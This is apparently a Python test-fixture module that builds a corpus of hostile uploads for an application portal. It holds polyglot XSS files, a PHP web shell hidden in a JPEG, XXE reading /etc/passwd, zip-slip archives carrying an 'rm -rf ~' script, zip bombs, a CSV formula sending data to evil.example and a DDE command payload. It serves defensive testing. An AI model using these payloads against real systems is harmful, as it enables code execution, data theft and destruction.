"""The hostile upload corpus (issue 16 item 3), every file built here from bytes: polyglots, script, archives that
lie, bombs, traversal, XXE, macros, formulas, GBK names, nothing at all."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

MB = 1024 * 1024
SAMPLE_PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
JPEG_HEAD = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
PHP = b"<?php system($_GET['c']); ?>"

# --- polyglots and script -------------------------------------------------------------------------------------

PDF_WITH_HTML = b"%PDF-1.4\n<html><body><script>fetch('/api/v1/applications')</script></body></html>\n" + SAMPLE_PDF
HTML_WITH_PDF = b"<html><body><script>alert(document.cookie)</script>\n" + b" " * 600 + SAMPLE_PDF + b"</body></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>\n"
)
JPEG_WITH_PHP = JPEG_HEAD + b"\xff\xfe\x00\x20" + PHP + b"\xff\xd9"  # the PHP sits in a JPEG comment segment
PHP_TEXT = PHP + b"\n"


# --- archives -------------------------------------------------------------------------------------------------


def zipped(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="%s"/></Types>'
)
DOCX_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"
)
XXE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
    b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)


def docx(document: bytes = DOCUMENT % "节能改造项目".encode(), main: bytes = DOCX_MAIN, **more: bytes) -> bytes:
    """A Word package with the parts Word needs, and any more named (`word/vbaProject.bin` …)."""
    parts = {"[Content_Types].xml": CONTENT_TYPES % main, "_rels/.rels": RELS, "word/document.xml": document}
    parts.update({name.replace("__", "/"): data for name, data in more.items()})
    return zipped(parts)


DOCX = docx()
DOCX_XXE = docx(XXE)
DOCX_XXE_UTF16 = docx(XXE.replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16"))
DOCX_VBA = docx(**{"word__vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504})
DOCM = docx(main=DOCM_MAIN)

ZIP_SLIPS = ("../evil.sh", "/etc/cron.d/evil", "C:\\Windows\\evil.bat", "docs/../../evil.sh", "..\\..\\evil.bat")


def zip_slip(name: str) -> bytes:
    return zipped({"说明.txt": "正常文件".encode(), name: b"#!/bin/sh\nrm -rf ~\n"})


def zip_symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("passwd")
        link.external_attr = (0o120777 << 16) | 0x20
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _zeros_deflated(size: int) -> tuple[bytes, int]:
    """A raw deflate stream of `size` zero bytes built from one compressed MB repeated (a full flush makes each MB
    stand alone), so a bomb of any size costs kilobytes to build; with the CRC of those zeros."""
    assert size % MB == 0
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = block.compress(b"\x00" * MB) + block.flush(zlib.Z_FULL_FLUSH)
    crc, zero = 0, b"\x00" * MB
    for _ in range(size // MB):
        crc = zlib.crc32(zero, crc)
    return one * (size // MB) + b"\x03\x00", crc  # an empty final block ends the stream


def bomb(expands_to: int, declare: int | None = None, name: str = "zeros.bin") -> bytes:
    """One deflated entry of `expands_to` zero bytes; its headers say `declare` bytes (the truth by default)."""
    data, crc = _zeros_deflated(expands_to)
    declared = expands_to if declare is None else declare
    if declare is not None:  # a liar also fakes the CRC of what it says it holds
        crc = zlib.crc32(b"\x00" * declare)
    raw = name.encode()
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), declared, len(raw), 0) + raw
    central = (
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data), declared, len(raw), 0, 0, 0, 0,
                    0o100644 << 16, 0) + raw
    )  # fmt: skip
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    return local + data + central + end


def nested(depth: int, inner: bytes = SAMPLE_PDF) -> bytes:
    """An archive holding an archive … `depth` archives in all, the innermost holding `inner`."""
    data = zipped({"报告.pdf": inner})
    for level in range(depth - 1):
        data = zipped({f"第{level + 2}层.zip": data}, zipfile.ZIP_STORED)
    return data


def overlapping() -> bytes:
    """Two directory entries that point at the same bytes (Fifield's non-recursive bomb, in small)."""
    good = zipped({"a.txt": b"x" * 1000})
    at = good.index(b"PK\x01\x02")
    directory, end = good[at : good.index(b"PK\x05\x06")], good[good.index(b"PK\x05\x06") :]
    twin = directory.replace(b"a.txt", b"b.txt")
    end = end[:8] + struct.pack("<HHI", 2, 2, len(directory) * 2) + end[16:]
    return good[:at] + directory + twin + end


def with_raw_names(names: dict[bytes, bytes]) -> bytes:
    """A ZIP whose entries carry these raw name bytes with the UTF-8 flag unset (as old Windows tools write GBK)."""
    placeholders = {f"{i:0{len(raw)}d}"[: len(raw)].encode(): raw for i, raw in enumerate(names, start=1)}
    assert len(placeholders) == len(names)
    data = zipped({p.decode(): names[raw] for p, raw in placeholders.items()})
    for placeholder, raw in placeholders.items():
        assert data.count(placeholder) == 2
        data = data.replace(placeholder, raw)
    return data


GBK_NAMES = {"申报材料/设备清单.pdf": SAMPLE_PDF, "申报材料/能源审计报告.pdf": SAMPLE_PDF + b"%2\n"}
GBK_ZIP = with_raw_names({name.encode("gbk"): data for name, data in GBK_NAMES.items()})
BAD_NAME_ZIP = with_raw_names({b"\xff\xfe\x80\x80.pdf": SAMPLE_PDF})


# --- text -----------------------------------------------------------------------------------------------------

CSV_FORMULA = '"=HYPERLINK(""http://evil.example/?""&A2,""点我"")",型号\n电表,DTZ341\n'.encode()
CSV_DDE = "名称,数量\n电表,\"+cmd|' /C calc'!A0\"\n".encode("gb18030")
CSV_NUMBERS = "设备,功率,偏差\n电表,-12.5,+3%\n水泵,--,-\n".encode()
EMPTY = b""
